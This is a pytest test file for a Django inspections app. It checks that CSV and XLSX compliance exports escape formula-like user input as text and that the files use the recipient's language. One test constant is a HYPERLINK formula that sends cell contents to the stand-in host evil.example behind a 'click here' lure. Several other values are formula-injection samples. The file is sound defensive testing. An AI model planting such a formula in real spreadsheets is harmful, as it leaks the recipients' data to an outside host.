"""Formula injection: text typed by people reaches CSV and XLSX exports as text, never as a
formula a spreadsheet would run when a manager opens the file."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from inspections.exports import safe_cell
from inspections.selectors.compliance import compliance_summary, month_period
from inspections.services.summary_delivery import spreadsheets
from tests import factories as f

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Karaoke Hoàn Kiếm", "Karaoke Hoàn Kiếm"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
        (date(2026, 1, 1), date(2026, 1, 1)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.django_db
def test_summary_csv_and_xlsx_keep_a_formula_like_name_as_text(authority):
    f.PremisesFactory(name=HOSTILE, occupancy_category="@SUM(1+1)")
    period = month_period(2026, 10)
    figures = compliance_summary(authority, period).figures()

    csv_bytes, xlsx_bytes = spreadsheets(authority, period, figures, "vi")

    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8").lstrip("\ufeff"))))
    assert rows[1][1] == "'" + HOSTILE
    assert "'@SUM(1+1)" in rows[1]
    sheet = load_workbook(io.BytesIO(xlsx_bytes))["Cơ sở"]
    name = sheet.cell(row=2, column=2)
    assert name.data_type == "s"  # text, not a formula ("f")
    assert name.value == "'" + HOSTILE


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("lang", "sheets", "first_headers"),
    [
        ("vi", ["Xã, phường", "Cơ sở"], ["Mã", "Tên", "Loại"]),
        ("en", ["Wards", "Premises"], ["ID", "Name", "Kind"]),
    ],
)
def test_summary_files_speak_the_recipients_language(authority, lang, sheets, first_headers):
    f.PremisesFactory(name="Karaoke Hoàn Kiếm")
    period = month_period(2026, 10)
    figures = compliance_summary(authority, period).figures()

    csv_bytes, xlsx_bytes = spreadsheets(authority, period, figures, lang)

    header = next(csv.reader(io.StringIO(csv_bytes.decode("utf-8").lstrip("\ufeff"))))
    assert header[:3] == first_headers
    workbook = load_workbook(io.BytesIO(xlsx_bytes))
    assert workbook.sheetnames == sheets
    assert [c.value for c in workbook[sheets[1]][1][:3]] == first_headers
